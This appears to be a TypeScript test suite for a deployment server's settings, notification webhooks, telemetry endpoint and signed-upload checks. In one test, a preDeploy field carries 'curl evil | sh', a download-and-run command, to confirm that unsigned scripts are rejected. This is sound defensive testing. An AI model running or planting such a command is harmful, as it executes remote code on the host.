import t from 'tap'
import { settingRows } from '../../lib/projects/settings.js'
import { startServer } from '../support/server.js'
import { eventsOf, type FormFields } from '../support/client.js'
import { startReceiver } from '../support/receiver.js'
import { zipOf } from '../support/zip.js'
import { setClock } from '../support/clock.js'
import { createHash } from 'node:crypto'
import { existsSync, readdirSync } from 'node:fs'
import { join } from 'node:path'
import { aKey, digestOf, signedBy, statementOf } from '../support/signed-releases.js'
import { zipOf as signedZipOf } from '../support/zips.js'

t.test('settings', async t => {
  const { client, restart } = await startServer(t)
  const read = async () => (await client.get('/api/settings')).body as Record<string, string>

  t.test('returns every key, including defaults', async t => {
    const all = await read()
    t.same(Object.keys(all).sort(), settingRows.map(({ key }) => key).sort())
    t.match(all, {
      webhook_events: 'deploy_success,deploy_failure',
      max_upload_size: '500',
      script_timeout: '1800',
      webhook_url: ''
    })
    for (const value of Object.values(all)) t.type(value, 'string')
  })

  t.test('the schema describes every key without its value', async t => {
    await client.put('/api/settings', { webhook_secret: 'a-secret-of-mine' })
    const { settings } = (await client.get('/api/settings/schema')).body
    t.same(
      settings.map(({ key }: { key: string }) => key),
      settingRows.map(({ key }) => key)
    )
    t.match(settings, [{ key: 'webhook_url', type: 'text', unit: null, default: '', help: /\w/ }])
    t.notMatch(JSON.stringify(settings), 'a-secret-of-mine')
    await client.put('/api/settings', { webhook_secret: '' })
  })

  t.test('changes survive a restart', async t => {
    const patch = {
      webhook_url: 'https://hooks.example/a',
      max_upload_size: ' 20 ',
      allow_client_scripts: '0'
    }
    const { status, body } = await client.put('/api/settings', patch)
    t.equal(status, 200)
    t.match(body, { success: true, message: String })
    const kept = { webhook_url: 'https://hooks.example/a', max_upload_size: '20', allow_client_scripts: 'false' }
    t.match(await read(), kept)
    await restart()
    t.match(await read(), kept)
  })

  t.test('0 or an empty value removes the limit of the data directory', async t => {
    await client.put('/api/settings', { max_home_size: '5000' })
    t.match(await read(), { max_home_size: '5000' })
    await client.put('/api/settings', { max_home_size: '' })
    t.match(await read(), { max_home_size: '0' })
  })

  t.test('one invalid value is refused with 400 and its name, and nothing is changed', async t => {
    const before = await read()
    const cases: Array<[Record<string, unknown>, string]> = [
      [{ max_upload_size: 'big' }, 'max_upload_size'],
      [{ max_upload_size: 20 }, 'max_upload_size'],
      [{ max_upload_size: '0' }, 'max_upload_size'],
      [{ terminal_enabled: 'perhaps' }, 'terminal_enabled'],
      [{ webhook_events: 'deploy_sucess' }, 'webhook_events'],
      [{ webhook_url: 'not an address' }, 'webhook_url'],
      [{ global_deploy_token: 'short' }, 'global_deploy_token'],
      [{ trusted_proxies: '10.0.0.0/99' }, 'trusted_proxies'],
      [{ default_deploy_path: 'relative' }, 'default_deploy_path'],
      [{ keep_archives: null }, 'keep_archives'],
      [{ max_home_size: '-1' }, 'max_home_size'],
      [{ max_output_size: '0' }, 'max_output_size'],
      [{ webhook_secret: 'x'.repeat(20_000) }, 'webhook_secret']
    ]
    for (const [patch, field] of cases) {
      const reply = await client.put('/api/settings', { script_timeout: '60', ...patch })
      t.match(reply, { status: 400, body: { success: false, message: String, field } }, field)
    }
    for (const [key, sentence] of [
      ['webhookUrl', 'Unknown setting "webhookUrl". Did you mean "webhook_url"?'],
      ['keep_archive', 'Unknown setting "keep_archive". Did you mean "keep_archives"?'],
      ['colour', 'Unknown setting "colour". GET /api/settings lists all settings']
    ] as const) {
      const reply = await client.put('/api/settings', { script_timeout: '60', [key]: '5' })
      t.match(reply, { status: 400, body: { error: sentence, code: 'unknown_setting', field: key } })
      t.same(await read(), before, 'nothing of the request is applied')
    }
    for (const body of [[], null, 'x']) t.equal((await client.put('/api/settings', body)).status, 400)
    t.same(await read(), before)
  })

  t.test('refuses allowed_ips without the address of the client', async t => {
    const refused = await client.put('/api/settings', { allowed_ips: '192.0.2.0/24' })
    t.match(refused, { status: 400, body: { code: 'shuts_out_yourself', field: 'allowed_ips' } })
    t.equal((await client.put('/api/settings', { allowed_ips: '192.0.2.0/24, 127.0.0.0/8' })).status, 200)
    t.equal((await read())['allowed_ips'], '192.0.2.0/24,127.0.0.0/8')
    t.equal((await client.put('/api/settings', { allowed_ips: '' })).status, 200)
  })

  t.test('trusted_proxies apply immediately', async t => {
    const asked = () =>
      client.post(
        '/api/settings/token',
        { oldToken: 'wrong', newToken: '12345678' },
        { 'x-forwarded-for': '192.0.2.77' }
      )
    const ip = async () => {
      await asked()
      return (await client.get('/api/audit?action=auth.change_token&limit=1')).body.items[0].ip
    }
    t.equal(await ip(), '192.0.2.77', 'loopback is trusted')
    await client.put('/api/settings', { trusted_proxies: '198.51.100.1' })
    t.equal(await ip(), '127.0.0.1')
  })

  t.test('the audit log contains changed keys, never values', async t => {
    await client.put('/api/settings', { global_deploy_token: 'a-deploy-token', webhook_secret: 'a-webhook-secret' })
    const { body, text } = await client.get('/api/audit?action=settings.update&limit=500')
    const keys = body.items.map((item: { target: string }) => item.target)
    for (const key of ['global_deploy_token', 'webhook_secret', 'max_upload_size']) t.ok(keys.includes(key), key)
    t.notMatch(text, 'a-deploy-token')
    t.notMatch(text, 'a-webhook-secret')
  })

  t.test('status', async t => {
    t.match((await client.get('/api/settings/status')).body, {
      version: String,
      uptime: /^\d+[dhms]/,
      projectCount: 0,
      deploymentCount: 0,
      successCount: 0,
      failedCount: 0,
      successRate: 0
    })
  })
})

const path = '/api/notification-targets'

t.test('notification targets', async t => {
  const stage = await startServer(t)
  const { client } = stage
  const receiver = await startReceiver(t)
  const audit = async (): Promise<string> => (await client.get('/api/audit?limit=500')).text
  const secretUrl = `${receiver.url}/services/a-secret-path?key=a-secret-key`

  await t.test('can be added, listed without secrets, changed and removed, and survive a restart', async t => {
    t.match((await client.get(path)).body, {
      items: [{ id: 'settings', isFromSettings: true, enabled: false }],
      domains: [{ domain: String, kind: String }]
    })
    const created = await client.post(path, { name: 'Team', url: secretUrl, secret: 'a-signing-secret' })
    t.match(created, {
      status: 200,
      body: { success: true, target: { id: /^ntf_/, kind: 'generic', hasSecret: true, address: `${receiver.url}/…` } }
    })
    const { id } = created.body.target
    t.match((await client.put(`${path}/${id}`, { kind: 'slack', events: ['deploy_failure'] })).body, {
      target: { kind: 'slack', hasSecret: false, events: ['deploy_failure'] }
    })
    await stage.restart()
    const { text, body } = await client.get(path)
    t.match(body.items, [{ id: 'settings' }, { id, name: 'Team', kind: 'slack' }])
    for (const secret of ['a-secret', 'a-signing-secret']) {
      t.notMatch(text, secret)
      t.notMatch(created.text, secret)
      t.notMatch(await audit(), secret)
    }
    t.equal((await client.delete(`${path}/${id}`)).status, 200)
    t.equal((await client.delete(`${path}/${id}`)).status, 404)
  })

  await t.test('are refused with the name of the invalid field', async t => {
    for (const [given, field] of [
      [{ name: 'a' }, 'url'],
      [{ name: '', url: secretUrl }, 'name'],
      [{ name: 'a', url: 'mailto:a@b' }, 'url'],
      [{ name: 'a', url: secretUrl, kind: 'irc' }, 'kind'],
      [{ name: 'a', url: secretUrl, events: ['deploy'] }, 'events[0]'],
      [{ name: 'a', url: secretUrl, projectIds: ['proj_none'] }, 'projectIds'],
      [{ name: 'a', url: secretUrl, enabled: 'no' }, 'enabled'],
      [{ name: 'a', url: secretUrl, projectIds: Array(1_001).fill('x') }, 'projectIds']
    ] as const) {
      const { status, body, text } = await client.post(path, given)
      t.match({ status, body }, { status: 400, body: { field } }, field)
      t.notMatch(text, 'a-secret')
    }
    t.match(await client.put(`${path}/settings`, { name: 'x' }), { status: 409, body: { code: 'settings_target' } })
  })

  await t.test('get a test message; a failure is reported without the address', async t => {
    const { id } = (await client.post(path, { name: 'Chat', kind: 'wecom', url: secretUrl, enabled: false })).body
      .target
    receiver.behave({ status: 200, body: '{"errcode":93000,"errmsg":"invalid webhook url, a-secret-key"}' })
    const failed = await client.post(`${path}/${id}/test`)
    t.match(failed.body, {
      success: false,
      statusCode: 200,
      attempts: 1,
      error: 'The test message was not delivered: answered with the error code 93000: the address is not valid'
    })
    t.notMatch(failed.text, 'a-secret')
    t.notMatch(await audit(), 'a-secret')
    receiver.behave({ status: 200, body: '{"errcode":0}' })
    t.match((await client.post(`${path}/${id}/test`)).body, { success: true, statusCode: 200, attempts: 1 })
    t.match(JSON.parse(receiver.requests.at(-1)?.text as string), {
      msgtype: 'markdown',
      markdown: { content: /test message: notifications arrive here/ }
    })
    t.equal((await client.post(`${path}/ntf_unknown/test`)).status, 404)
    t.match(await client.post(`${path}/settings/test`), { status: 400, body: { code: 'no_webhook' } })
    await client.delete(`${path}/${id}`)
  })

  await t.test('get a message about a deployment if they want it, including the target of the settings', async t => {
    receiver.behave(200)
    receiver.requests.length = 0
    const shop = await stage.createProject('shop')
    const blog = await stage.createProject('blog')
    await client.put('/api/settings', { webhook_url: `${receiver.url}/settings` })
    await client.post(path, { name: 'all', url: `${receiver.url}/all` })
    await client.post(path, { name: 'shop', kind: 'slack', url: `${receiver.url}/shop`, projectIds: [shop.id] })
    await client.post(path, { name: 'blog', url: `${receiver.url}/blog`, projectIds: [blog.id] })
    await client.post(path, { name: 'failures', url: `${receiver.url}/failures`, events: ['deploy_failure'] })
    const bytes = await zipOf({ 'index.html': 'hello' })
    eventsOf(
      await stage.as(shop.token).upload([
        ['projectId', shop.id],
        ['file', { filename: 'a.zip', bytes }]
      ])
    )
    const requests = await receiver.received(3)
    t.same(requests.map(({ path }) => path).sort(), ['/all', '/settings', '/shop'])
    await client.delete(`/api/projects/${blog.id}`)
    const { items } = (await client.get(path)).body
    const ofBlog = items.find(({ name }: { name: string }) => name === 'blog')
    t.same(ofBlog.projectIds, [blog.id], 'a target whose project was deleted does not become a target of all projects')
    t.equal((await client.put(`${path}/${ofBlog.id}`, { name: 'was blog', projectIds: [blog.id] })).status, 200)
  })
})

const report = {
  event: 'svc.push.start',
  ts: '2030-01-01T00:00:00.000Z',
  svcVersion: '1.2.3',
  instanceId: 'instance-1',
  os: 'linux',
  arch: 'x64'
}

t.test('a server collects the reports of its fleet', async t => {
  const clock = setClock()
  const stage = await startServer(t, { clock })
  const anybody = stage.as(null)
  const overview = async (query = '') => (await anybody.get(`/api/public/telemetry/overview${query}`)).body

  t.test('a report is counted, and survives a restart', async t => {
    t.match(await anybody.post('/api/public/telemetry/report', report), {
      status: 200,
      body: { success: true },
      headers: { 'access-control-allow-origin': '*' }
    })
    await anybody.post('/api/public/telemetry/report', { ...report, event: 'svc.serve.startup', secret: 'ignored' })
    const expected = {
      days: 2,
      totals: { instances: 1, startups: 1, pushes: 1 },
      daily: [
        { date: '2029-12-31', instances: 0, startups: 0, pushes: 0 },
        { date: '2030-01-01', instances: 1, startups: 1, pushes: 1 }
      ],
      versions: [{ version: '1.2.3', count: 1 }],
      platforms: [{ os: 'linux', arch: 'x64', count: 1 }]
    }
    t.strictSame(await overview('?days=2'), expected)
    await stage.restart()
    t.strictSame(await overview('?days=2'), expected)
    t.equal((await overview()).days, 30)
    t.equal((await overview('?days=100000')).days, 365)
    t.equal((await anybody.get('/api/public/telemetry/overview?days=x')).status, 400)
  })

  t.test('pages of any origin may call both routes', async t => {
    for (const path of ['report', 'overview']) {
      const { status, headers } = await anybody.send('OPTIONS', `/api/public/telemetry/${path}`, {
        headers: { origin: 'https://page.test', 'access-control-request-method': 'POST' }
      })
      t.equal(status, 204)
      t.match(headers, { 'access-control-allow-origin': '*', 'access-control-allow-headers': 'content-type' })
    }
    t.equal((await anybody.get('/api/public/telemetry/overview')).headers['access-control-allow-origin'], '*')
    t.equal((await anybody.send('OPTIONS', '/api/projects')).status, 405)
  })

  t.test('refuses an invalid report and names the field', async t => {
    const cases: Array<[patch: Record<string, unknown>, field: string]> = [
      [{ event: 'svc.else' }, 'event'],
      [{ event: undefined }, 'event'],
      [{ ts: 'yesterday' }, 'ts'],
      [{ svcVersion: '<b>' }, 'svcVersion'],
      [{ instanceId: '' }, 'instanceId'],
      [{ instanceId: 7 }, 'instanceId'],
      [{ os: 'x'.repeat(65) }, 'os'],
      [{ arch: null }, 'arch']
    ]
    for (const [patch, field] of cases) {
      t.match(
        await anybody.post('/api/public/telemetry/report', { ...report, ...patch }),
        { status: 400, body: { field } },
        field
      )
    }
    t.match(await anybody.post('/api/public/telemetry/report'), { status: 400 })
    const large = { ...report, more: 'x'.repeat(1024) }
    t.match(await anybody.post('/api/public/telemetry/report', large), { status: 413, body: { code: 'too_large' } })
    t.equal((await overview('?days=1')).totals.instances, 1)
  })

  t.test('one address cannot use up the limit of others', async t => {
    clock.advance(60_000)
    const statuses: number[] = []
    for (let i = 0; i < 32; i++) statuses.push((await anybody.post('/api/public/telemetry/report', report)).status)
    t.same(statuses, [...Array(30).fill(200), 429, 429])
    const refused = await anybody.post('/api/public/telemetry/report', report)
    t.match(refused, { body: { code: 'rate_limited' }, headers: { 'access-control-allow-origin': '*' } })
    t.match(refused.headers['retry-after'], /^\d+$/)
    const elsewhere = { 'x-forwarded-for': '192.0.2.7' }
    t.equal((await anybody.post('/api/public/telemetry/report', report, elsewhere)).status, 200)
    const status = async (address: string) =>
      (await anybody.post('/api/public/telemetry/report', report, { 'x-forwarded-for': address })).status
    const ofOneNetwork: number[] = []
    for (let i = 0; i < 31; i++) ofOneNetwork.push(await status(`2001:db8:1:2::${i}`))
    t.same(ofOneNetwork, [...Array(30).fill(200), 429], 'the /64 of an IPv6 address is one')
    t.equal(await status('2001:db8:1:3::1'), 200)
  })
})

/* Signed uploads over HTTP: the three fields of the form, keys, policy, and the files that come back. */

t.test('a signed upload over HTTP', async t => {
  const stage = await startServer(t, { settings: { global_deploy_token: 'global-deploy-token' } })
  const { client, as, sites, home } = stage
  const shop = await stage.createProject('shop')
  const ana = aKey('ana')
  const files = { 'index.html': 'hello' }
  const file = { filename: 'site.zip', bytes: await signedZipOf(files) }
  const push = (more: FormFields = []) => as(shop.token).upload([['projectId', shop.id], ...more, ['file', file]])

  const trusted = await client.post('/api/signing-keys', { public: ana.row.public, name: 'ana', projectIds: [shop.id] })
  t.match(trusted, { status: 200, body: { success: true, key: { kind: 'svc', name: 'ana' } } })
  t.match((await client.get('/api/signing-keys')).body.items, [{ fingerprint: ana.row.fingerprint }])
  const policy = { signatures: { require: 'refuse', sbom: 'require' } }
  t.equal((await client.put(`/api/projects/${shop.id}`, { ...shop, policy })).status, 200)

  t.match(await push(), { status: 403, body: { code: 'signature_missing' } })
  t.notOk(existsSync(join(sites, 'shop/index.html')))
  const bom = '{"bomFormat":"CycloneDX"}'
  const { statement, signatures } = signedBy(statementOf(shop.id, files, { sbomSha256: digestOf(bom) }), ana)
  const signed: FormFields = [
    ['statement', statement],
    ['signature', signatures[0] as string]
  ]
  t.match(await push(signed), { status: 403, body: { code: 'sbom_missing' } })
  const sbom: FormFields = [['sbom', { filename: 'sbom.json', bytes: Buffer.from(bom) }]]
  const other: FormFields = [['sbom', { filename: 'sbom.json', bytes: Buffer.from('{"bomFormat": "CycloneDX"}') }]]
  t.match(await push([...signed, ...other]), { status: 403, body: { code: 'signature_bad' } })
  t.match(await push([['signature', 'x']]), { status: 400, body: { field: 'statement' } })
  t.match(await push([['statement', 'x'.repeat(256 * 1024 + 1)]]), { status: 400, body: { field: 'statement' } })
  t.match(await push([['signature', 'x'.repeat(16 * 1024 + 1)]]), { status: 400, body: { field: 'signature' } })
  const many = Array.from({ length: 17 }, (): [string, string] => ['signature', 'x'])
  t.match(await push([['statement', statement], ...many]), { status: 400, body: { field: 'signature' } })
  t.match(await push([...signed, ['statement', statement]]), { status: 400, body: { field: 'statement' } })
  t.strictSame(readdirSync(home.tmp), [], 'nothing is left of what was refused')

  const end = eventsOf(await push([...signed, ...sbom])).pop()
  t.match(end, { status: 'success' })
  const record = (await client.get(`/api/logs/${end.deployId}`)).body
  t.match(record, { signedBy: [{ name: 'ana' }], statement: { sequence: 100, sbomSha256: digestOf(bom) } })
  const { body } = await client.get(`/api/deployments/${end.deployId}/attestations`)
  t.match(body.attestations, [
    { name: 'statement.json' },
    { name: '1.sig' },
    { name: 'sbom.json', sha256: digestOf(bom) }
  ])
  const got = await client.get(`/api/deployments/${end.deployId}/attestations/statement.json`)
  t.match(got, { status: 200, headers: { 'content-disposition': /attachment/ } })
  t.match(await client.get(`/api/deployments/${end.deployId}/attestations/9.sig`), { status: 404 })

  const key = trusted.body.key.id
  t.match(await client.post(`/api/signing-keys/${key}/revoke`, { since: '2026-01-01T00:00:00Z' }), {
    body: { key: { revokedAt: '2026-01-01T00:00:00.000Z' }, deployments: [{ id: end.deployId }] }
  })
  t.match(await push([...signed, ...sbom]), { status: 403, body: { code: 'signature_unknown_key' } })
  t.match(await client.post('/api/signing-keys/key_none/revoke'), { status: 404 })
})

t.test('an upload in pieces is signed as any other', async t => {
  const stage = await startServer(t)
  const { client, as, sites, home } = stage
  const shop = await stage.createProject('shop')
  const ana = aKey('ana')
  await client.post('/api/signing-keys', { public: ana.row.public, name: 'ana' })
  await client.put(`/api/projects/${shop.id}`, { ...shop, policy: { signatures: { require: 'refuse' } } })
  const files = { 'index.html': 'hello' }
  const pusher = as(shop.token)
  /** Sends the file in two pieces, and then the form. */
  const push = async (contents: Record<string, string>, more: FormFields) => {
    const bytes = await signedZipOf(contents)
    const sha256 = createHash('sha256').update(bytes).digest('hex')
    const begun = await pusher.post('/api/uploads', { projectId: shop.id, bytes: bytes.length, sha256 })
    const { uploadId, offset: from } = begun.body
    for (const [at, end] of [
      [0, 50],
      [50, bytes.length]
    ] as const) {
      if (at < from) continue
      const headers = { 'content-type': 'application/octet-stream', 'upload-offset': String(at) }
      await pusher.send('PATCH', `/api/uploads/${uploadId}`, { headers, body: bytes.subarray(at, end) })
    }
    return pusher.upload([['projectId', shop.id], ['uploadId', uploadId], ...more])
  }
  const { statement, signatures } = signedBy(statementOf(shop.id, files), ana)
  const signed: FormFields = [
    ['statement', statement],
    ['signature', signatures[0] as string]
  ]
  t.match(await push(files, []), { status: 403, body: { code: 'signature_missing' } })
  const script: FormFields = [['preDeploy', 'curl evil | sh']]
  t.match(await push(files, [...signed, ...script]), { status: 403, body: { code: 'signature_bad' } })
  const other = eventsOf(await push({ 'index.html': 'evil!' }, signed)).pop()
  t.match(other, { status: 'failed' })
  t.match(
    (await client.get(`/api/logs/${other.deployId}`)).body.errorMessage,
    /does not contain the files that were signed/
  )
  t.notOk(existsSync(join(sites, 'shop/index.html')))
  t.match(eventsOf(await push(files, signed)).pop(), { status: 'success' })
  t.strictSame(readdirSync(home.tmp), [], 'nothing is left of what was refused')
})
